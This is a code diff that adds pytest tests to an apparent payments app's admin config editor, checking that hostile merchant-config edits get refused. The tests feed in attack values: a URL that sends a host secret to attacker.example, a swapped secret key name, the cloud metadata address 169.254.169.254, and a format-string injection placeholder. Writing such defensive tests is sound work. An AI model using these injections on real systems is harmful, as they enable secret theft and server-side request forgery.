@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+from html import unescape
 
 import pytest
 from kabao_testing import mint_launch_token, text_of
@@ -213,3 +214,62 @@ def test_a_failed_connector_check_does_not_open_the_gate(ops_app, config, card_s
     assert "Connector check failed" in text_of(report)
     assert client.post("/ops/merchants/tea-house/publish", data={"csrf_token": token}).status_code == 409
     assert not (config / "tea-house.yaml").exists()
+
+
+def _save_raw(client, config, change):
+    page = client.get("/ops/merchants/lime-market").get_data(as_text=True)
+    base = re.search(r'name="base" value="(\w+)"', page).group(1)
+    text = change((config / "lime-market.yaml").read_text(encoding="utf-8"))
+    return client.post(
+        "/ops/merchants/lime-market", data={"csrf_token": csrf(client, "/ops/"), "text": text, "base": base}
+    )
+
+
+def test_the_raw_editor_refuses_naming_kabaos_secrets_by_key_path(ops_app, config):
+    client = ops_app.test_client()
+    login(client)
+
+    def steal(text):
+        text = text.replace("${KABAO_MERCHANT_SANDBOX_URL}/cs/lime/v1", "https://attacker.example/${KABAO_HOST_SECRET}")
+        return text.replace("api_key_env: KABAO_MERCHANT_SANDBOX_API_KEY", "api_key_env: KABAO_SECRET_KEY")
+
+    saved = unescape(text_of(_save_raw(client, config, steal)))
+    assert "backend.base_url KABAO_HOST_SECRET is one of Kabao's own" in saved
+    assert "backend.credentials.api_key_env KABAO_SECRET_KEY is one of Kabao's own" in saved
+    refused = client.post("/ops/merchants/lime-market/publish", data={"csrf_token": csrf(client, "/ops/")})
+    assert refused.status_code == 409 and "backend.base_url" in text_of(refused)
+    assert "KABAO_HOST_SECRET" not in (config / "lime-market.yaml").read_text(encoding="utf-8")
+
+
+def test_the_raw_editor_refuses_a_card_system_on_a_metadata_address(ops_app, config):
+    client = ops_app.test_client()
+    login(client)
+    saved = _save_raw(
+        client, config, lambda t: t.replace("${KABAO_MERCHANT_SANDBOX_URL}/cs/lime/v1", "http://169.254.169.254/v1")
+    )
+    assert "backend.base_url 169.254.169.254 is a link-local address" in text_of(saved)
+
+
+def test_the_form_refuses_copy_with_foreign_placeholders_and_keeps_showing_the_secret_problem(ops_app, config):
+    client = ops_app.test_client()
+    login(client)
+    _save_raw(
+        client,
+        config,
+        lambda t: t.replace('return_urls: ["${KABAO_MERCHANT_SANDBOX_URL', 'return_urls: ["${KABAO_HOST_SECRET'),
+    )
+    page = client.get("/ops/merchants/lime-market").get_data(as_text=True)
+    base = re.search(r'name="base" value="(\w+)"', page).group(1)
+    form = {
+        "csrf_token": csrf(client, "/ops/"),
+        "form": "shape",
+        "base": base,
+        "colour_primary": "#0b7a4b",
+        "colour_on_primary": "#ffffff",
+        "copy_en": "checkout.pay: Pay {amount.__class__.__mro__}",
+    }
+    saved = unescape(text_of(client.post("/ops/merchants/lime-market", data=form)))
+    assert "copy.en.checkout.pay {amount.__class__.__mro__} is not a plain placeholder" in saved
+    assert "checkout.return_urls KABAO_HOST_SECRET is one of Kabao's own" in saved
+    refused = client.post("/ops/merchants/lime-market/publish", data={"csrf_token": csrf(client, "/ops/")})
+    assert refused.status_code == 409
